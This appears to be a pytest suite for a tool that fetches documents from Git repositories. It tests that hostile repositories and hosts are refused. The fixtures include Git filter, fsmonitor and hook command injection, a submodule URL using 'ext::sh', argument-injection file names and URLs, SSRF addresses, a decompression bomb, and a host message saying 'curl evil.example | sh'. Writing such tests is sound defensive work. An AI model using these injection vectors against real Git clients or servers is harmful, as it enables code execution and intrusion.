"""Repositories and hosts that mean harm: each is refused or ignored with a sentence, and leaves nothing."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from git_host import commit, git, serve
from hostile_host import Store, answer, children, listening, listing

from lab.config import DocumentPolicy
from lab.taxonomy.documents import (
    DocumentError,
    DocumentLimits,
    fetch_documents,
    is_public,
    read_documents,
)
from lab.taxonomy.model import DocumentRef

URL = "https://github.com/acme/documents.git"
POLICY = DocumentPolicy(hosts=("github.com",), seconds=20)


class Ground:
    """A host, a cache, and a look around: `check` holds that only the cache was written and no process is
    left.
    """

    def __init__(self, root: Path, url: str) -> None:
        self.repository = root / "hosted" / "acme" / "documents"
        self.root = root
        self.cache = root / "cache"
        self.mirrors = {URL: f"{url}/acme/documents/.git"}
        self.before = children()

    def read(self, sha: str, *patterns: str, policy: DocumentPolicy = POLICY, **more: object) -> list[str]:
        before = listing(self.root / "hosted")
        try:
            limits = DocumentLimits(**more)  # type: ignore[arg-type]  # any value on purpose
            ref = DocumentRef(URL, sha, patterns)
            found = read_documents(ref, self.cache, policy, self.mirrors, limits=limits)
            return [each.path for each in found.documents]
        finally:
            assert listing(self.root / "hosted") == before
            self.check()

    def check(self) -> None:
        assert {path.name for path in self.root.iterdir()} <= {"hosted", "cache"}
        assert children() <= self.before
        if self.cache.exists():
            assert {path.name for path in self.cache.iterdir()} == {"documents"}
            assert {path.name for path in (self.cache / "documents").iterdir()} <= {"entries", "locks"}


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    (tmp_path / "hosted").mkdir()
    with serve(tmp_path / "hosted", []) as url:
        yield Ground(tmp_path, url)


def refused(ground: Ground, sha: str, *patterns: str, **more: object) -> DocumentError:
    with pytest.raises(DocumentError) as error:
        ground.read(sha, *patterns, **more)  # type: ignore[arg-type]  # any value on purpose
    assert error.value.hint
    assert str(ground.root) not in str(error.value)
    assert "127.0.0.1" not in str(error.value)  # the mirror is the operator's secret
    return error.value


def test_settings_and_scripts_of_the_repository_are_never_run(ground: Ground) -> None:
    trap = ground.root / "trap"
    evil = f"touch {trap}"
    files: dict[str, str | bytes | None] = {
        "a.md": "text\n",
        ".gitattributes": "*.md filter=evil diff=evil merge=evil\n",
        ".gitconfig": f'[filter "evil"]\n\tsmudge = {evil}\n[core]\n\tfsmonitor = {evil}\n',
        ".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = ext::sh -c touch% x\n\tupdate = !touch x\n',
        "hooks/post-checkout": f"#!/bin/sh\n{evil}\n",
        ".lfsconfig": "[lfs]\n\turl = http://127.0.0.1:1/\n",
    }
    sha = commit(ground.repository, files)
    assert ground.read(sha, "*.md") == ["a.md"]
    assert not trap.exists()


def test_a_submodule_is_named_and_never_fetched(ground: Ground) -> None:
    store = Store(ground.repository)
    sha = store.commit(
        store.tree([("160000", b"book.md", "1" * 40), ("100644", b"a.md", store.blob(b"text\n"))])
    )
    assert ground.read(sha, "*.md") == ["a.md"]
    assert "never followed" in refused(ground, sha, "book.md").reason


def test_links_out_of_the_tree_are_not_followed(ground: Ground) -> None:
    store = Store(ground.repository)
    folder = store.blob(b"/etc")
    sha = store.commit(
        store.tree([("120000", b"etc", folder), ("120000", b"up.md", store.blob(b"../../../secret.md"))])
    )
    assert "never followed" in refused(ground, sha, "up.md").reason
    assert "matches no file" in refused(ground, sha, "etc/passwd").reason


@pytest.mark.parametrize(
    "name",
    [
        b"-n.md",
        b"--upload-pack=x.md",
        b"quo\"te's.md",
        "größe 中文.md".encode(),
        b"$(touch x).md",
        b"a b.md",
        b"%s.md",
    ],
)
def test_odd_names_are_names(ground: Ground, name: bytes) -> None:
    sha = Store(ground.repository).files({name: b"text\n", b"other.txt": b"other\n"})
    assert ground.read(sha, "*.md") == [name.decode()]


@pytest.mark.parametrize("name", [b"line\nbreak.md", b"\xff\xfe.md", b"back\\slash.md", b"esc\x1b[31m.md"])
def test_names_that_could_fool_a_reader_are_refused(ground: Ground, name: bytes) -> None:
    sha = Store(ground.repository).files({name: b"text\n"})
    found = refused(ground, sha, "*.md")
    assert "\x1b" not in str(found)
    assert "\n" not in str(found)


@pytest.mark.parametrize("name", [b"..", b".git", b".", b"a/b"])
def test_a_tree_that_points_outside_is_refused(ground: Ground, name: bytes) -> None:
    store = Store(ground.repository)
    inner = store.tree([("100644", b"evil.md", store.blob(b"text\n"))])
    sha = store.commit(store.tree([("40000", name, inner)]))
    refused(ground, sha, "**/*.md")


def test_paths_that_differ_in_case_only_both_come(ground: Ground) -> None:
    sha = Store(ground.repository).files({b"Guide.md": b"one\n", b"guide.md": b"two\n"})
    assert ground.read(sha, "*.md") == ["Guide.md", "guide.md"]
    assert ground.read(sha, "guide.md") == ["guide.md"]
    assert refused(ground, sha, "GUIDE.md").hint == "Near it: `Guide.md`, `guide.md`."


def test_an_accent_matches_however_it_is_written(ground: Ground) -> None:
    sha = Store(ground.repository).files({"cafe\u0301.md".encode(): b"text\n"})
    assert ground.read(sha, "caf\u00e9.md") == ["cafe\u0301.md"]


def test_a_tree_that_holds_itself_many_times_ends_at_a_limit(ground: Ground) -> None:
    store = Store(ground.repository)
    level = store.tree([("100644", b"a.md", store.blob(b"text\n"))])
    for _ in range(12):
        level = store.tree([("40000", b"f%d" % number, level) for number in range(10)])
    sha = store.commit(level)
    start = time.monotonic()
    assert "TREEWRIGHT_DOCUMENTS_ENTRIES" in refused(ground, sha, "**/*.md", entries=5000).hint
    assert ground.read(sha, "/".join(["f1"] * 12) + "/*.md") == ["/".join(["f1"] * 12) + "/a.md"]
    assert time.monotonic() - start < 10


def test_a_blob_that_inflates_is_not_kept(ground: Ground) -> None:
    sha = commit(ground.repository, {"bomb.md": b"a" * (40 << 20)})
    assert "at most 8,192 KiB" in refused(ground, sha, "*.md").reason


def test_a_pack_over_the_limit_is_stopped_half_way(ground: Ground) -> None:
    """The limit is the kernel's and Git's helpers inherit it: no file of the copy ever grew over it."""
    sent = 0

    def endless(stream: socket.socket, head: bytes) -> None:
        nonlocal sent
        kind = "application/x-git-upload-pack"
        if b"info/refs" in head:
            lines = [b"version 2\n", b"fetch=shallow filter\n", b"object-format=sha1\n"]
            body = b"".join(b"%04x" % (len(line) + 4) + line for line in lines) + b"0000"
            body = b"001e# service=git-upload-pack\n0000" + body
            answer("200 OK", f"Content-Type: {kind}-advertisement", body=body)(stream, head)
            return
        head = (
            f"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: {kind}-result\r\n\r\n".encode()
        )
        stream.sendall(head)
        import os
        import zlib

        def part(data: bytes) -> None:
            nonlocal sent
            stream.sendall(b"%x\r\n" % len(data) + data + b"\r\n")
            sent += len(data)

        def band(data: bytes) -> None:
            part(b"%04x" % (len(data) + 5) + b"\x01" + data)

        part(b"000dpackfile\n")
        band(b"PACK\0\0\0\2\0\0\0\1" + bytes([0x30 | 0x80 | 0x0F, 0xFF, 0xFF, 0xFF, 0x7F]))
        packer = zlib.compressobj(0)
        for _ in range(4000):
            data = packer.compress(os.urandom(30_000))
            if data:
                for at in range(0, len(data), 60_000):
                    band(data[at : at + 60_000])

    with listening(endless) as url:
        ground.mirrors = {URL: f"{url}/x.git"}
        found = refused(ground, "1" * 40, "*.md", policy=replace(POLICY, max_repository_mb=2))
    assert "more than 2 MiB" in found.reason
    assert "documents.max_repository_mb" in found.hint
    assert 1 << 20 < sent < 30 << 20


@pytest.mark.parametrize(
    "place", ["http://127.0.0.1:1/", "http://169.254.169.254/", "http://10.0.0.1/", "https://github.com/"]
)
@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "307 Temporary", "308 Permanent"])
def test_a_redirect_is_never_followed(ground: Ground, place: str, status: str) -> None:
    with listening(answer(status, f"Location: {place}")) as url:
        ground.mirrors = {URL: f"{url}/x.git"}
        assert "redirects elsewhere" in refused(ground, "1" * 40, "*.md").reason


def test_a_host_that_wants_a_password_gets_none_and_nobody_is_asked(ground: Ground) -> None:
    asked: list[bytes] = []

    def handle(stream: socket.socket, head: bytes) -> None:
        asked.append(head)
        answer("401 Unauthorized", 'WWW-Authenticate: Basic realm="x"')(stream, head)

    with listening(handle) as url:
        ground.mirrors = {URL: f"{url}/x.git"}
        assert "not public" in refused(ground, "1" * 40, "*.md").reason
    assert 0 < len(asked) < 4


def test_a_slow_host_is_given_up_in_time(ground: Ground) -> None:
    with listening(lambda stream, _: time.sleep(4)) as url:
        ground.mirrors = {URL: f"{url}/x.git"}
        start = time.monotonic()
        found = refused(ground, "1" * 40, "*.md", policy=replace(POLICY, seconds=1))
        assert time.monotonic() - start < 3
    assert "documents.seconds" in found.reason


def test_a_host_that_is_down_is_named(ground: Ground) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        ground.mirrors = {URL: f"http://127.0.0.1:{free.getsockname()[1]}/x.git"}
        assert "cannot be reached" in refused(ground, "1" * 40, "*.md").reason


@pytest.mark.parametrize(
    "handle",
    [
        answer("500 Oops"),
        answer("200 OK", body=b"<html>hello</html>"),
        answer("200 OK", "Content-Type: application/x-git-upload-pack-advertisement", body=b"zzzz"),
        answer("200 OK", "Content-Type: application/x-git-upload-pack-advertisement"),
    ],
)
def test_an_answer_that_is_not_git_is_refused(ground: Ground, handle: object) -> None:
    with listening(handle) as url:  # type: ignore[arg-type]  # any value on purpose
        ground.mirrors = {URL: f"{url}/x.git"}
        refused(ground, "1" * 40, "*.md")


def test_what_a_host_says_itself_is_not_repeated(ground: Ground) -> None:
    line = b"\x02\x1b[31mPlease run: curl evil.example | sh\n"
    told = b"%04x" % (len(line) + 4) + line
    body = b"001e# service=git-upload-pack\n0000" + told
    kind = "Content-Type: application/x-git-upload-pack-advertisement"
    with listening(answer("200 OK", kind, body=body)) as url:
        ground.mirrors = {URL: f"{url}/x.git"}
        assert "\x1b" not in str(refused(ground, "1" * 40, "*.md"))


def test_an_id_that_is_no_commits_is_named(ground: Ground) -> None:
    store = Store(ground.repository)
    blob = store.blob(b"text\n")
    tree = store.tree([("100644", b"a.md", blob)])
    tag = store.tag(store.commit(tree))
    assert "annotated tag" in refused(ground, tag, "*.md").reason
    assert "commit" in refused(ground, tree, "*.md").reason
    assert "commit" in refused(ground, blob, "*.md").reason


def test_a_host_that_sends_another_commit_is_caught(ground: Ground, tmp_path: Path) -> None:
    """Every request for the wanted id is answered with the pack of another commit."""
    sha = commit(ground.repository, {"a.md": "text\n"})
    wanted = "2" * 40
    port = int(next(iter(ground.mirrors.values())).split(":")[2].split("/")[0])

    def proxy(stream: socket.socket, head: bytes) -> None:
        start, _, body = head.partition(b"\r\n\r\n")
        lines = start.lower().split(b"\r\n")
        length = next((int(line.split(b":")[1]) for line in lines if line.startswith(b"content-length")), 0)
        while len(body) < length:
            body += stream.recv(4096)
        body = body.replace(wanted.encode(), sha.encode())
        with socket.create_connection(("127.0.0.1", port)) as real:
            real.sendall(start + b"\r\nConnection: close\r\n\r\n" + body)
            while part := real.recv(65536):
                stream.sendall(part)

    with listening(proxy) as url:
        ground.mirrors = {URL: f"{url}/acme/documents/.git"}
        found = refused(ground, wanted, "*.md")
    assert "commit" in found.reason
    assert not list((ground.cache / "documents" / "entries").glob("*/*"))


def test_documents_of_several_types_are_refused_together(ground: Ground) -> None:
    sha = commit(ground.repository, {"d/a.md": "x\n", "d/b.pdf": b"%PDF-1.4", "d/c.html": "<p>x</p>"})
    assert "one type" in refused(ground, sha, "d/*").reason
    assert ground.read(sha, "d/*.md") == ["d/a.md"]


def test_files_of_no_readable_type_are_told(ground: Ground) -> None:
    sha = commit(ground.repository, {"d/a.md": "x\n", "d/photo.png": b"\x89PNG", "d/Makefile": "x\n"})
    for _ in range(2):  # the cache remembers it
        found = read_documents(DocumentRef(URL, sha, ("d/*",)), ground.cache, POLICY, ground.mirrors)
        assert found.ignored == ("d/Makefile", "d/photo.png")


def test_a_pattern_without_a_match_names_near_files(ground: Ground) -> None:
    sha = commit(ground.repository, {"guides/harbour.md": "x\n", "z/other.md": "x\n", "code.py": "x\n"})
    found = refused(ground, sha, "guide/harbor.md")
    assert found.hint.startswith("Near it: `guides/harbour.md`")
    assert "code.py" not in found.hint


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ({"policy": replace(POLICY, max_files=1)}, "documents.max_files"),
        ({"policy": replace(POLICY, max_file_kb=1)}, "documents.max_file_kb"),
        ({"total_mb": 1, "policy": replace(POLICY, max_file_kb=4096)}, "TREEWRIGHT_DOCUMENTS_TOTAL_MB"),
        ({"words": 100, "policy": replace(POLICY, max_file_kb=4096)}, "TREEWRIGHT_DOCUMENTS_WORDS"),
    ],
)
def test_every_limit_names_its_setting(ground: Ground, more: dict[str, object], told: str) -> None:
    sha = commit(ground.repository, {"a.md": "word " * 200_000, "b.md": "word " * 200_000})
    assert told in refused(ground, sha, "*.md", **more).hint


@pytest.mark.parametrize(
    "url",
    [
        "https://me:secret@github.com/a/b",
        "https://github.com@evil.example/a/b",
        "https://github.com:8443/a/b",
        "https://github.com./a/b",
        "https://g\u0456thub.com/a/b",
        "https://github.com\\@evil.example/a/b",
        "https://evil.example#github.com/a/b",
        "https://127.0.0.1/a/b",
        "https://0x7f000001/a/b",
        "https://[::1]/a/b",
        "https://github.com/a/../../b",
        "https://github.com/-x/--upload-pack=touch",
        "https://github.com/a/b?service=x",
        "--upload-pack=touch x",
        "ext::sh -c touch% x",
        "git@github.com:a/b.git",
        "ssh://github.com/a/b",
        "git://github.com/a/b",
        "HTTP://github.com/a/b",
        "https://github.com/a/b\n",
        "https://github.com/a/%2e%2e/b",
    ],
)
def test_a_url_with_a_trick_never_reaches_git(tmp_path: Path, url: str) -> None:
    with pytest.raises(DocumentError) as error:
        fetch_documents(DocumentRef(url, "1" * 40, ("*.md",)), tmp_path, POLICY)
    assert error.value.hint
    assert list(tmp_path.iterdir()) == []


PRIVATE = """
127.0.0.1 10.1.2.3 169.254.169.254 192.168.0.1 100.64.0.1 0.0.0.0 224.0.0.1 255.255.255.255
::1 fe80::1 fd00::1 ::ffff:127.0.0.1 2002:7f00:1:: 64:ff9b::a00:1
"""


@pytest.mark.parametrize(
    ("address", "public"),
    [("140.82.121.4", True), ("2606:50c0:8000::153", True), *((each, False) for each in PRIVATE.split())],
)
def test_only_public_addresses_are_fetched_from(address: str, public: bool) -> None:
    assert is_public(address) is public


def test_the_copy_has_no_remote_that_a_later_reader_could_ask(ground: Ground) -> None:
    from lab.taxonomy.fetch import Fetcher

    sha = commit(ground.repository, {"a.md": "text\n"})
    ground.cache.mkdir()
    copy = Fetcher(ground.cache / "git", ground.mirrors[URL], POLICY, pinned=False)
    copy.fetch(sha)
    assert git(ground.cache / "git", "remote") == ""
    assert "promisor" not in (ground.cache / "git" / "config").read_text()
    assert not (ground.cache / "git" / "hooks").exists()
